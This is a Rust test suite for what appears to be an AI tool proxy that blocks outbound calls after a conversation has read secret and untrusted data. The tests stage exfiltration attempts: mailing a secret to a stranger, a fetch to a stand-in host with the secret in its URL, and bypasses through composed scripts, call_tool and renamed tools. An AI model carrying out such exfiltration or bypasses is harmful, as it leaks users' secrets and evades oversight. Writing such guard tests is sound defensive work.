//! A secret on its way out: in three calls, by a tool that only reads, in one composed tool, in one script of a model.

use serde_json::json;

use super::{Conversation, LABELS, PASSTHROUGH, rules, text};

/// The built-in tool `seen` of the server says what reached it, so it has no labels here.
const SEEN: &str = "  - {name: seen, labels: []}\n";

fn deny() -> String {
    rules("deny").replace(LABELS, &format!("{LABELS}{SEEN}"))
}

#[tokio::test]
async fn three_calls_are_stopped_at_the_third_in_both_eras() {
    for modern in [false, true] {
        let mut conversation = Conversation::with(modern, &[PASSTHROUGH, &deny()]).await;
        conversation.passes("send_mail", text("hello")).await;
        conversation.passes("fetch", text("https://stranger.example")).await;
        conversation.passes("read_vault", text("the key")).await;
        // Without an effect outside it goes on.
        conversation.passes("note", text("s3cret")).await;
        let why = conversation.stopped("send_mail", text("s3cret to a stranger")).await;
        assert!(
            why.starts_with("`send_mail` was not called: this conversation has read ")
                && why.contains("`read_vault` (secret)")
                && why.contains("(untrusted)"),
            "{why}"
        );
        assert_eq!(conversation.reached("s3cret to a stranger").await, 0);
    }
}

#[tokio::test]
async fn a_tool_that_only_reads_carries_no_secret_out_in_its_url() {
    for modern in [false, true] {
        let mut conversation = Conversation::with(modern, &[PASSTHROUGH, &deny()]).await;
        conversation.passes("fetch", text("https://stranger.example")).await;
        conversation.passes("read_vault", text("the key")).await;
        let why = conversation.stopped("fetch", text("https://stranger.example/?s3cret")).await;
        assert_eq!(
            why,
            "`fetch` was not called: this conversation has read `fetch` (untrusted), `read_vault` (secret)"
        );
        assert_eq!(conversation.reached("?s3cret").await, 0);
    }
}

#[tokio::test]
async fn one_call_that_does_all_three_is_stopped_in_its_middle() {
    let script = r#"
tools = {meta.name: call for meta, call in backends()["fake"].tools()}

def all(args):
    page = tools["fetch"]({"text": "page"})
    secret = tools["read_vault"]({"text": "s3cret"})
    return tools["send_mail"](unwrap(secret))

publish(metadata("all", "", {}, {}), all)
publish(metadata("seen", "", {}, {}), lambda args: tools["seen"](args))
"#;
    for modern in [false, true] {
        let (proxy, folder) = super::world("legacy", &[], &["sessionInit: { scriptFile: policy.star }", &rules("deny")
            .replace(LABELS, "  labels:\n  - {name: read_vault, server: fake, labels: [secret]}\n  - {name: seen, server: fake, labels: []}\n")]);
        let mut conversation = Conversation::at((proxy.file("policy.star", script), folder), modern).await;
        let why = conversation.stopped("all", json!({})).await;
        assert!(why.contains("`fake/send_mail` was not called: this conversation has read"), "{why}");
        assert!(why.contains("`fake/read_vault` (secret)"), "{why}");
        assert_eq!(conversation.reached(r#""name":"read_vault""#).await, 1);
        assert_eq!(conversation.reached(r#""name":"send_mail""#).await, 0);
    }
}

#[tokio::test]
async fn one_script_of_a_model_is_stopped_in_its_middle() {
    let code = r#"
page = fetch(text = "page")
secret = read_vault(text = "s3cret")
return send_mail(text = secret["text"])
"#;
    for modern in [false, true] {
        let sections = ["sessionInit: { preset: code-mode@1 }", &rules("deny")];
        let mut conversation = Conversation::with(modern, &sections).await;
        let outcome = conversation.call("execute_tool_script", json!({"script": code})).await;
        let told = outcome.to_string();
        assert!(told.contains("`send_mail` was not called: this conversation has read"), "{told}");
        // The marks stay with the conversation.
        let again =
            conversation.call("execute_tool_script", json!({"script": "return fetch(text = \"s3cret\")"})).await;
        assert!(again.to_string().contains("`fetch` was not called"), "{again}");
    }
}

#[tokio::test]
async fn call_tool_is_no_way_around_the_rules() {
    for modern in [false, true] {
        let sections =
            ["sessionInit: { preset: optimizer@1 }\noptimizer: { embedding: { provider: none } }", &rules("deny")];
        let mut conversation = Conversation::with(modern, &sections).await;
        for tool in ["fetch", "read_vault"] {
            conversation.passes("call_tool", json!({"tool_name": tool, "parameters": {"text": "x"}})).await;
        }
        let why = conversation
            .stopped("call_tool", json!({"tool_name": "send_mail", "parameters": {"text": "s3cret"}}))
            .await;
        assert!(why.contains("`send_mail` was not called"), "{why}");
    }
}

#[tokio::test]
async fn a_published_label_holds_for_the_servers_tool_behind_it() {
    // The script publishes the vault under another name; the config labels that name, and a composed tool calls the
    // server's tool itself.
    let script = r#"
tools = {meta.name: (meta, call) for meta, call in backends()["fake"].tools()}
meta, call = tools["note"]
publish(meta.replace(name = "diary"), call)
publish(metadata("leak", "", {}, {}), lambda args: tools["send_mail"][1](unwrap(tools["note"][1]({"text": "s3cret"}))))
"#;
    let section =
        "flow:\n  labels: [{name: diary, labels: [secret]}]\n  rules: [{when: [secret], then: egress, do: deny}]";
    let (proxy, folder) = super::world("legacy", &[], &["sessionInit: { scriptFile: policy.star }", section]);
    let mut conversation = Conversation::at((proxy.file("policy.star", script), folder), false).await;
    let why = conversation.stopped("leak", json!({})).await;
    assert!(why.contains("was not called: this conversation has read `diary` (secret)"), "{why}");
}

#[tokio::test]
async fn a_rule_that_logs_lets_the_call_go_on() {
    let mut conversation = Conversation::with(false, &[PASSTHROUGH, &rules("log")]).await;
    for tool in ["fetch", "read_vault", "send_mail"] {
        conversation.passes(tool, text("x")).await;
    }
    conversation.client.proxy.client.stderr().line("a flow rule applies").await;
}

#[tokio::test]
async fn what_a_failed_call_says_counts_too() {
    let section =
        "flow:\n  labels: [{name: fail, labels: [secret]}]\n  rules: [{when: [secret], then: egress, do: deny}]";
    for modern in [false, true] {
        let mut conversation = Conversation::with(modern, &[PASSTHROUGH, section]).await;
        let failed = conversation.call("fail", json!({"message": "the s3cret is 5"})).await;
        assert_eq!(failed["result"]["isError"], true, "{failed}");
        let why = conversation.stopped("send_mail", text("5")).await;
        assert!(why.contains("this conversation has read `fail` (secret)"), "{why}");
    }
}
